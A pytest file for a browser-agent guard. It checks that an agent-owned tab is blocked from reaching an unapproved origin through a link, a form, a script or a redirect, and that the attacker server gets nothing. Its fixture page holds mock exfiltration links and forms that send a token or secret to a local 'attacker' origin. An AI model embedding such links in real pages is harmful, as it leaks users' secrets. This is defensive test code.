"""Stopped before it leaves (a request to an unapproved site never goes out), in real Chromium
through the real chain: a tab a session owns cannot take its top frame to an origin the person has
not approved — a link, a form submit, a script's location assignment, a redirect from the approved
site — and the attacker's server (a second local server) receives NO request at all; the action
names the blocked origin and the tab stays usable on its page. page_follow follows a link by its ref
(no address passes through the agent): same origin with no prompt, another approved origin through
the gate; a ref that is not a link is wrong_element. A tab of the person's is never touched by the
rules."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Any

import pytest

from tabwarden.cli.browser import ThrowawayBrowser
from tests.browser.harness import (
    Answer,
    Hook,
    Reply,
    Request,
    ServedSite,
    confirm_page,
    launched,
    ok,
    press,
    served_pages,
    shows,
    trust_this_process,
    widen,
)
from tests.deadline import until
from tests.fakes import tool_error

pytestmark = [pytest.mark.browser, pytest.mark.pooled]


@pytest.fixture
def attacker_site() -> Iterator[ServedSite]:
    """The unapproved site: its own server. Whatever reaches it is recorded: the test asserts
    nothing did (the person's tab aside)."""
    with served_pages(fallback=b"<!doctype html><title>attacker</title><p id=got>got it</p>") as s:
        yield s


@pytest.fixture
def attacker(attacker_site: ServedSite) -> str:
    """The unapproved site's origin, reached as http://localhost:PORT."""
    return f"http://localhost:{attacker_site.port}"


def _start(evil: str) -> Hook:
    """The real site (127.0.0.1:P), also reached as a second approved origin (localhost:P)."""

    def page(request: Request) -> Answer:
        other = f"http://localhost:{request.port}"
        if request.path == "/redir":
            return Reply(
                status=302, content_type=None, headers={"Location": f"{evil}/stolen?via=redirect"}
            )
        if request.path == "/next":
            return b"<!doctype html><title>next</title><p id=where>next page</p>"
        return (
            "<!doctype html><html><head><title>start</title></head><body>"
            "<p id=where>start page</p>"
            f"<a id=away href='{evil}/collect?token=s3cret'>Away</a>"
            "<a id=same href='/next?from=follow'>Same</a>"
            f"<a id=other href='{other}/next?from=other'>Other</a>"
            "<a id=bounce href='/redir'>Bounce</a>"
            "<a id=js href='javascript:void 0'>Script link</a>"
            "<button type=button id=plain>Plain</button>"
            f"<button type=button id=assign onclick=\"location.href='{evil}/assigned'\">"
            "Assign</button>"
            f"<form id=f action='{evil}/form' method=get><input name=q value=secret>"
            "<button id=send>Send</button></form>"
            "</body></html>"
        )

    return page


@pytest.fixture
def start(attacker: str) -> Iterator[ServedSite]:
    with served_pages(hook=_start(attacker)) as served:
        yield served


def seen(attacker_site: ServedSite) -> list[str]:
    return [r.target for r in attacker_site.requests()]


async def where(agent: Any, tab: int) -> str:
    return str((await ok(agent, "page_get_state", {"tabId": tab, "selector": "#where"}))["text"])


async def ref_of(agent: Any, tab: int, name: str) -> str:
    found = await ok(agent, "page_find", {"tabId": tab, "name": name, "exact": True})
    assert found["matches"], found
    return str(found["matches"][0]["ref"])


@pytest.mark.promise("H4-57", "H4-58")
async def test_an_agent_tab_is_stopped_before_it_leaves_and_follows_links_by_ref(
    browser: ThrowawayBrowser, attacker: str, attacker_site: ServedSite, start: ServedSite
) -> None:
    # The real site (127.0.0.1:P) and a second approved origin on the same server (localhost:P).
    a, other = start.origin, f"http://localhost:{start.port}"
    trust_this_process(browser, [a, other])
    widen(browser, confirm=[])  # link and submit clicks without the window: the stop is the guard

    async with launched(browser) as (context, agent):
        tab = (await ok(agent, "tab_open", {"url": f"{a}/"}))["tab"]["id"]

        # A link to the unapproved site: stopped, named, the tab still on its page.
        away = await ok(agent, "page_click", {"tabId": tab, "selector": "#away"})
        assert away["blocked"] == attacker and away["url"] == f"{a}/", away
        assert await where(agent, tab) == "start page"

        # A form submit to it (the field's value would have gone in the query).
        sent = await ok(agent, "page_click", {"tabId": tab, "selector": "#send"})
        assert sent["blocked"] == attacker, sent
        assert await where(agent, tab) == "start page"

        # A page script assigning location.
        assigned = await ok(agent, "page_click", {"tabId": tab, "selector": "#assign"})
        assert assigned["blocked"] == attacker, assigned
        assert await where(agent, tab) == "start page"

        # A redirect from the approved site: the hop to the attacker is stopped too.
        bounced = await ok(agent, "page_click", {"tabId": tab, "selector": "#bounce"})
        assert bounced["blocked"] == attacker, bounced
        assert await where(agent, tab) == "start page"
        redirected = tool_error(
            await agent.call_tool("page_navigate", {"tabId": tab, "url": f"{a}/redir"})
        )
        assert redirected is not None and redirected["code"] == "origin_not_approved"
        assert attacker in redirected["message"], redirected
        assert await where(agent, tab) == "start page"

        # Nothing of any of it reached the attacker's server.
        assert seen(attacker_site) == [], seen(attacker_site)

        # page_follow, same origin: by ref, no prompt, lands.
        followed = await ok(
            agent, "page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, "Same")}
        )
        assert followed["url"] == f"{a}/next?from=follow" and "blocked" not in followed
        assert await where(agent, tab) == "next page"
        await ok(agent, "page_history", {"tabId": tab})

        # page_follow to another approved origin: through the gate (approved: no prompt).
        crossed = await ok(
            agent, "page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, "Other")}
        )
        assert crossed["url"] == f"{other}/next?from=other", crossed
        await ok(agent, "page_history", {"tabId": tab})
        assert await where(agent, tab) == "start page"

        # Not links: wrong_element, and the tab does not move.
        for name in ("Plain", "Script link"):
            refused = tool_error(
                await agent.call_tool(
                    "page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, name)}
                )
            )
            assert refused is not None and refused["code"] == "wrong_element", (name, refused)
        assert await where(agent, tab) == "start page"

        # page_follow to the attacker: the same gate as page_navigate asks the person; a
        # denial refuses, and still nothing was sent there.
        following = asyncio.create_task(
            agent.call_tool("page_follow", {"tabId": tab, "ref": await ref_of(agent, tab, "Away")})
        )
        window = await confirm_page(context)
        await shows(window, attacker)
        await press(window, "#deny")
        denied = tool_error(await following)
        assert denied is not None and denied["code"] == "origin_not_approved", denied
        assert await where(agent, tab) == "start page"
        assert seen(attacker_site) == [], seen(attacker_site)

        # The person's own tab (no session): the rules never touch it.
        mine = await context.new_page()
        await mine.goto(f"{a}/")
        await mine.click("#away")
        await until(
            "the attacker's site was sent the token",
            lambda: any(p.startswith("/collect?token=") for p in seen(attacker_site)),
            interval_s=0.05,
        )
        await mine.wait_for_selector("#got")
